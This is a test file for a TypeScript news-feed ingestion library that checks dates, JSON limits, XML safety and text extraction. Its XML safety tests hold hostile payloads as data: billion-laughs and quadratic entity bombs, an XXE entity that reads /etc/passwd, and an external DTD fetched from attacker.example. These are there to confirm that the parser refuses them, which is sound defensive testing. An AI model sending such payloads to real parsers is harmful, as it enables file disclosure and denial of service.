import { describe, expect, it } from "vitest";
import {
  assertSafeXml,
  composeArticleText,
  createRegistry,
  defineAdapter,
  decodeText,
  detach,
  ingest,
  normaliseDate,
  parseJsonBounded,
  ParseError,
  inputHead,
  scanXmlTags,
  settleItems,
  stripTags,
  xmlRootElement,
  type XmlTag,
} from "../src/index.js";

describe("normaliseDate", () => {
  it.each([
    ["2024-05-03T09:30:00+02:00", "2024-05-03T09:30:00+02:00"],
    ["2024-05-03t09:30:00z", "2024-05-03T09:30:00Z"],
    ["2024-05-03 09:30:00.250+0530", "2024-05-03T09:30:00.250+05:30"],
    ["2024-05-03T09:30", "2024-05-03T09:30:00"],
    ["2024-05-03", "2024-05-03"],
    ["Fri, 03 May 2024 09:30:00 +0200", "2024-05-03T09:30:00+02:00"],
    ["Fri, 3 May 2024 09:30:00 GMT", "2024-05-03T09:30:00Z"],
    ["3 May 24 07:30 EDT", "2024-05-03T07:30:00-04:00"],
    ["Sat, 07 Sep 2002 00:00:01 PST", "2002-09-07T00:00:01-08:00"],
    ["03 Sept 1999 10:00:00 +0000", "1999-09-03T10:00:00Z"],
    ["Tue, 10 Jun 2003 04:00:00", "2003-06-10T04:00:00"],
  ])("reads %s", (input, expected) => {
    expect(normaliseDate(input)).toBe(expected);
  });

  it.each(["2024-02-30", "2024-13-01", "31 Foo 2024 10:00", "yesterday", "", "2024-05-03T25:00:00Z"])("refuses %s", (input) => {
    expect(normaliseDate(input)).toBeNull();
  });
});

describe("parseJsonBounded", () => {
  it("parses ordinary JSON, strings with brackets and escapes included", () => {
    expect(parseJsonBounded("a.json", '{"a": "[[{\\"", "b": [1, 2, {"c": null}]}')).toEqual({ a: '[[{"', b: [1, 2, { c: null }] });
  });

  it("refuses 100,000 levels of nesting with a typed error naming the input", () => {
    const bomb = "[".repeat(100_000) + "]".repeat(100_000);
    expect(() => parseJsonBounded("bomb.json", bomb)).toThrowError(expect.objectContaining({ code: "HOSTILE_INPUT", input: "bomb.json" }));
  });

  it("refuses an array with more members than allowed", () => {
    const big = `[${"0,".repeat(5000)}0]`;
    expect(() => parseJsonBounded("big.json", big, { maxMembers: 1000 })).toThrowError(/more than 1000 members/);
    expect(parseJsonBounded("big.json", big, { maxMembers: 6000 })).toHaveLength(5001);
  });

  it("gives a ParseError for malformed JSON", () => {
    expect(() => parseJsonBounded("bad.json", '{"a": ')).toThrowError(ParseError);
  });
});

describe("assertSafeXml", () => {
  it("refuses entity declarations: billion laughs and external entities", () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><rss>&lol2;</rss>`;
    const xxe = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`;
    for (const [name, xml] of [["laughs.xml", laughs], ["xxe.xml", xxe]] as const) {
      expect(() => assertSafeXml(name, xml)).toThrowError(expect.objectContaining({ code: "HOSTILE_INPUT", input: name }));
    }
  });

  it("allows a plain DOCTYPE, CDATA and comments holding markup", () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "x.dtd"><rss><a><![CDATA[<b><c>]]><!-- <d> --></a></rss>`;
    expect(() => assertSafeXml("ok.xml", xml)).not.toThrow();
  });

  it("refuses absurd nesting", () => {
    const deep = "<a>".repeat(10_000) + "</a>".repeat(10_000);
    expect(() => assertSafeXml("deep.xml", deep)).toThrowError(/deeper than 512/);
    expect(() => assertSafeXml("shallow.xml", "<a>".repeat(100) + "</a>".repeat(100))).not.toThrow();
  });
});

describe("hostile XML in bounded time", () => {
  const MB = 4 * 1024 * 1024;
  const fill = (unit: string) => unit.repeat(Math.ceil(MB / unit.length));
  // Each of these made a lazy-regex scanner rescan the rest of the document at every repetition
  // (quadratic: hours at 64 MiB). A linear scan of 4 MB takes milliseconds; the bound is generous.
  it.each([
    ["unterminated CDATA sections", fill("<![CDATA[")],
    ["unterminated comments", fill("<!--")],
    ["unterminated processing instructions", fill("<?")],
    ["unclosed start tags", fill("<item ")],
    ["unclosed attribute quotes", fill('<a x="')],
    ["a DOCTYPE opened again and again", fill("<!DOCTYPE x [")],
  ])("scans %s linearly", (_, xml) => {
    const t0 = performance.now();
    expect(() => assertSafeXml("hostile.xml", `<rss>${xml}`)).not.toThrow();
    expect(performance.now() - t0).toBeLessThan(2000);
  });

  it("refuses a quadratic blowup (one large entity referenced many times) before any expansion", () => {
    const big = "x".repeat(50_000);
    const xml = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${big}">]><r>${"&a;".repeat(50_000)}</r>`;
    expect(() => assertSafeXml("blowup.xml", xml)).toThrowError(expect.objectContaining({ code: "HOSTILE_INPUT", input: "blowup.xml" }));
  });

  it("finds an entity declaration however it is spelled in the internal subset", () => {
    for (const decl of ['<!entity x "y">', '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">']) {
      expect(() => assertSafeXml("e.xml", `<!DOCTYPE r [${decl}]><r/>`)).toThrowError(/declares entities/);
    }
    expect(() => assertSafeXml("c.xml", "<r><![CDATA[<!ENTITY x>]]><!-- <!ENTITY y> --></r>")).not.toThrow();
  });
});

describe("detach", () => {
  it("gives an equal string (a copy that no longer shares the document it was cut from)", () => {
    const doc = `<title>${"Larsvik “ferry” fire ".repeat(100)}</title>`;
    const title = doc.slice(7, -8);
    expect(detach(title)).toBe(title);
    expect(detach("")).toBe("");
    expect(composeArticleText({ title: doc.slice(7, 30), body: "Body." }).text).toBe(`${doc.slice(7, 30).trim()}\n\nBody.`);
  });
});

describe("scanXmlTags", () => {
  it("reports open, close and empty tags with their offsets, skipping CDATA, comments and text", () => {
    const xml = '<?xml version="1.0"?><a:feed x="1>2"><e/><!-- <no> --><b><![CDATA[<no>]]>t &amp; u</b></a:feed>';
    const tags: XmlTag[] = [];
    scanXmlTags(xml, (t) => void tags.push(t));
    expect(tags.map((t) => [t.kind, t.name, xml.slice(t.start, t.end)])).toEqual([
      ["open", "a:feed", '<a:feed x="1>2">'],
      ["empty", "e", "<e/>"],
      ["open", "b", "<b>"],
      ["close", "b", "</b>"],
      ["close", "a:feed", "</a:feed>"],
    ]);
  });

  it("passes over a stray < (and a tag with < in an attribute) and stops when the visitor returns false", () => {
    const names: string[] = [];
    scanXmlTags("<a>1 < 2 <3 <d x='<'><b><c>", (t) => {
      names.push(t.name);
      return t.name !== "b";
    });
    expect(names).toEqual(["a", "b"]);
  });
});

describe("stripTags", () => {
  it("drops script, style and head, breaks lines at block ends and decodes entities", () => {
    const { text, segments } = stripTags("<head><title>x</title></head><p>One &amp; two</p><script>var a = '<p>';</script><div>Three<br>Four</div><style>p{}</style>");
    expect(text).toBe("One & two\nThree\nFour");
    expect(segments.map((s) => text.slice(s.start, s.end))).toEqual(["One & two", "Three", "Four"]);
  });

  it("keeps the text after an unclosed script and is linear on hostile markup", () => {
    expect(stripTags("<p>a</p><script>b").text).toBe("a\nb");
    for (const unit of ["<script", "<a ", "</p ", "<style><script"]) {
      const t0 = performance.now();
      stripTags(unit.repeat(200_000));
      expect(performance.now() - t0, unit).toBeLessThan(2000);
    }
  });
});

describe("composeArticleText", () => {
  it("lays out headline, dateline and body with segments indexing the text", () => {
    const { text, segments } = composeArticleText({ title: "  Ferry  halted ", dateline: "PORT CALDER, 3 May", body: "First.\nSecond." });
    expect(text).toBe("Ferry halted\n\nPORT CALDER, 3 May\n\nFirst.\nSecond.");
    expect(segments.map((s) => [s.kind, text.slice(s.start, s.end)])).toEqual([
      ["title", "Ferry halted"],
      ["dateline", "PORT CALDER, 3 May"],
      ["body", "First."],
      ["body", "Second."],
    ]);
  });

  it("shifts a body's own segments", () => {
    const { text, segments } = composeArticleText({
      title: "T",
      body: { text: "Quote here.", segments: [{ start: 0, end: 11, kind: "quote", language: null, reason: "blockquote" }] },
    });
    expect(text.slice(segments[1]!.start, segments[1]!.end)).toBe("Quote here.");
    expect(segments[1]!.kind).toBe("quote");
  });
});

describe("item failures", () => {
  const multi = defineAdapter({
    name: "multi",
    detect: (input) => (input.name.endsWith(".multi") ? 0.9 : 0),
    parse(input, options) {
      const lines = decodeText(input).text.split("\n");
      const good = lines.filter((l) => l !== "BAD").map((text) => ({ text }));
      lines.forEach((l, i) => {
        if (l === "BAD") options.onItemFailure?.(new ParseError(input.name, `item ${i + 1}: broken`));
      });
      return good;
    },
  });

  it("ingest keeps an input's good items and lists each broken item in failures", async () => {
    const { articles, failures } = await ingest([{ input: { name: "f.multi", data: "one\nBAD\nthree" } }], createRegistry([multi]));
    expect(articles.map((a) => a.text)).toEqual(["one", "three"]);
    expect(failures).toEqual([{ input: "f.multi", code: "PARSE_FAILED", name: "ParseError", message: "f.multi: item 2: broken" }]);
  });

  it("still calls the caller's own onItemFailure", async () => {
    const seen: string[] = [];
    await ingest([{ input: { name: "g.multi", data: "BAD\nok" }, options: { onItemFailure: (e) => seen.push(e.message) } }], createRegistry([multi]));
    expect(seen).toEqual(["g.multi: item 1: broken"]);
  });
});

describe("format sniffing helpers", () => {
  it("inputHead skips a byte order mark and leading space, and gives nothing for binary", () => {
    expect(inputHead({ name: "a", data: new Uint8Array([0xef, 0xbb, 0xbf, 0x20, 0x0a, 0x3c, 0x72]) })).toBe("<r");
    expect(inputHead({ name: "b", data: new Uint8Array([0, 1, 2, 3]) })).toBe("");
    expect(inputHead({ name: "c", data: "  {\"a\": 1}" }, 4)).toBe("{\"");
  });

  it("xmlRootElement finds the root's local name after the prolog", () => {
    expect(xmlRootElement('<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss PUBLIC "x" "y">\n<rss version="2.0">')).toBe("rss");
    expect(xmlRootElement('<rdf:RDF xmlns:rdf="x">')).toBe("RDF");
    expect(xmlRootElement("<!DOCTYPE x [<!ELEMENT x ANY>]><nar:newsItem>")).toBe("newsItem");
    expect(xmlRootElement("just text")).toBeNull();
    expect(xmlRootElement(`<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "${"x".repeat(5000)}`.slice(0, 4096))).toBe("rss");
  });
});

describe("settleItems", () => {
  const e = (m: string) => new ParseError("in", m);
  it("reports each failed item and returns the good ones", () => {
    const seen: string[] = [];
    expect(settleItems("in", { articles: [1, 2], failures: [e("item 3: bad")] }, { onItemFailure: (x) => seen.push(x.message) })).toEqual([1, 2]);
    expect(seen).toEqual(["in: item 3: bad"]);
  });

  it("throws the one failure, or a summary of several, when nothing could be read", () => {
    expect(() => settleItems("in", { articles: [], failures: [e("only")] }, {})).toThrow("in: only");
    expect(() => settleItems("in", { articles: [], failures: [e("a"), e("b")] }, {})).toThrow("none of the 2 items could be read; the first: in: a");
    expect(() => settleItems("in", { articles: [], failures: [] }, {}, "entry")).toThrow("no entry found");
  });
});
